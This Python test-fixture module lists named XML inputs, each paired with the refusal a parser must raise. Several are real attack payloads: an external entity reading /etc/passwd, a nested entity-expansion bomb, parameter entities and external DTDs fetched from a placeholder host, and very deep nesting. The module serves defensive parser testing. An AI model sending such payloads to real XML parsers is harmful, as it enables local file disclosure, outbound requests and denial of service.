"""XML that means harm or is merely wrong, each under the name of its fault, with the refusal it must meet."""

from connectors.errors import (
    XmlCharset,
    XmlDoctype,
    XmlEmpty,
    XmlMalformed,
    XmlRefused,
    XmlTooDeep,
    XmlTooLarge,
    XmlTooManyElements,
)
from connectors.schemas.parsing import BOUNDS

_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_MARKED = '<?xml version="1.0" encoding="{}"?><a>é</a>'


def attribute_of(size: int) -> bytes:
    """One attribute of ``size`` bytes."""
    return b'<a b="' + b"x" * size + b'"/>'


def nested(depth: int) -> bytes:
    """So many elements, one inside the other."""
    return b"<a>" * depth + b"</a>" * depth


def broad(count: int) -> bytes:
    """So many elements beside one another, below a root."""
    return b"<a>" + b"<b/>" * count + b"</a>"


def hostile() -> dict[str, tuple[bytes, type[XmlRefused]]]:
    """Name to bytes and refusal."""
    return {
        "nothing": (b"", XmlEmpty),
        "blanks": (b" \r\n\t", XmlEmpty),
        "only_a_mark": (b"\xef\xbb\xbf", XmlEmpty),
        "only_a_declaration": (b'<?xml version="1.0"?>', XmlEmpty),
        "external_entity": (b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', XmlDoctype),
        "entity_in_attribute": (b'<!DOCTYPE a [<!ENTITY e "x">]><a b="&e;"/>', XmlDoctype),
        "entity_bomb": (f'<!DOCTYPE a [<!ENTITY e0 "ha">{_ENTITIES}]><a>&e9;</a>'.encode(), XmlDoctype),
        "parameter_entity": (b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://outside.invalid/p"> %p;]><a/>', XmlDoctype),
        "external_subset": (b'<!DOCTYPE a SYSTEM "http://outside.invalid/a.dtd"><a/>', XmlDoctype),
        "empty_doctype": (b"<!DOCTYPE a><a/>", XmlDoctype),
        "doctype_after_remarks": (b'<?xml version="1.0"?>\n<!-- <a/> -->\n<?p q?>\n<!DOCTYPE a []><a/>', XmlDoctype),
        "doctype_in_utf_16": ('<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'.encode("utf-16"), XmlDoctype),
        "doctype_in_utf_16_unmarked": ("<!DOCTYPE a []><a/>".encode("utf-16-be"), XmlDoctype),
        "undeclared_entity": (b"<a>&nbsp;</a>", XmlMalformed),
        "over_the_size": (attribute_of(BOUNDS.size), XmlTooLarge),
        "long_attribute": (attribute_of(11_000_000), XmlTooLarge),
        "too_deep": (nested(BOUNDS.depth + 1), XmlTooDeep),
        "far_too_deep": (nested(100_000), XmlTooDeep),
        "too_many_elements": (broad(BOUNDS.elements), XmlTooManyElements),
        "unclosed": (b"<a>\n<b></a>", XmlMalformed),
        "two_roots": (b"<a/><b/>", XmlMalformed),
        "attribute_twice": (b'<a b="1" b="2"/>', XmlMalformed),
        "unbound_prefix": (b"<x:a/>", XmlMalformed),
        "zero_byte": (b"<a>\0</a>", XmlMalformed),
        "no_xml": (b"%PDF-1.7", XmlMalformed),
        "html_page": (b"<html><body><p>Identifiez-vous<br></body></html>", XmlMalformed),
        "truncated": (b'<?xml version="1.0"?><famille><enfant nom="', XmlMalformed),
        "open_remark": (b"<!-- - " * 100_000 + b"<a/>", XmlMalformed),
        "other_version": (b'<?xml version="1.1"?><a/>', XmlCharset),
        "declared_utf_8_is_latin": (_MARKED.format("UTF-8").encode("latin-1"), XmlCharset),
        "undeclared_latin": ("<a>é</a>".encode("latin-1"), XmlCharset),
        "declared_ascii_is_utf_8": (_MARKED.format("US-ASCII").encode(), XmlCharset),
        "declared_utf_16_is_not": (_MARKED.format("UTF-16").encode(), XmlCharset),
        "half_a_character": ("<a>é</a>".encode("utf-16-le")[:-1], XmlCharset),
        "lone_surrogate": ("<a>\ud800</a>".encode("utf-16-le", "surrogatepass"), XmlCharset),
        "utf_32": (_MARKED.format("UTF-32").encode("utf-32"), XmlCharset),
        "ebcdic": (b'<?xml version="1.0" encoding="IBM037"?><a/>', XmlCharset),
        "utf_7": (b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>', XmlCharset),
        "undefined_in_windows_1252": (b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\x81</a>', XmlCharset),
    }
